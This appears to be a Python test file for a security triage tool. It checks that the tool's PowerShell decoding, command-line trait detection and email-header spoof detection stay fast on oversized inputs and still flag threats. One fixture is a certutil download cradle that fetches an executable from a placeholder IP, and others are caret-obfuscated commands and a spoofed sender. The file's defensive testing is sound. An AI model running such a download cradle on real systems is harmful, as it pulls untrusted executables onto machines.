"""Attacker-sized command lines and headers must stay linear: each input below took the old
patterns far more than 5 s; the bounds are generous on purpose."""

import base64
import time

from triage.enrich.commands import CommandLineProvider, decode_powershell
from triage.enrich.email_auth import analyse_email_headers
from triage.models import Observable, Record


def _seconds(started: float) -> float:
    return time.perf_counter() - started


def test_encoded_flag_search_is_linear() -> None:
    started = time.perf_counter()
    assert decode_powershell("-a" + " " * 60_000 + "!") is None
    assert _seconds(started) < 2
    script = base64.b64encode("Write-Host hi".encode("utf-16-le")).decode()
    assert decode_powershell(f"powershell -enc   {script}") == "Write-Host hi"
    assert decode_powershell(f"powershell /EncodedCommand:{script}") == "Write-Host hi"


def test_command_traits_are_linear_and_still_found() -> None:
    provider = CommandLineProvider()
    hostile = "certutil mshta " * 4_300  # no URL or flag after any of them
    started = time.perf_counter()
    result = provider.lookup(Observable(type="command_line", value=hostile))
    assert _seconds(started) < 2
    assert "download_cradles" not in result.details
    cradle = "certutil -f -urlcache http://198.51.100.7/a.exe a.exe"
    found = provider.lookup(Observable(type="command_line", value=cradle))
    assert found.details["download_cradles"] == ["certutil download/decode"]
    carets = provider.lookup(Observable(type="command_line", value="c^m d /c p^o"))
    assert carets.details["obfuscation"] == ["caret insertion"]


def _header(name: str, value: str) -> Record:
    return Record.model_validate(
        {"artifact_id": "a", "locator": f"header:{name}", "source": "email.header",
         "raw": f"{name}: {value}", "fields": {"name": name, "value": value}}
    )  # fmt: skip


def test_display_name_address_search_is_bounded() -> None:
    started = time.perf_counter()
    results = analyse_email_headers([_header("From", f'"{"a" * 100_000}" <x@example.com>')])
    assert _seconds(started) < 2
    assert results[0].value == "x@example.com"
    spoof = analyse_email_headers([_header("From", '"ceo@corp.com" <x@example.com>')])
    assert "display name shows another address (ceo@corp.com)" in spoof[0].summary
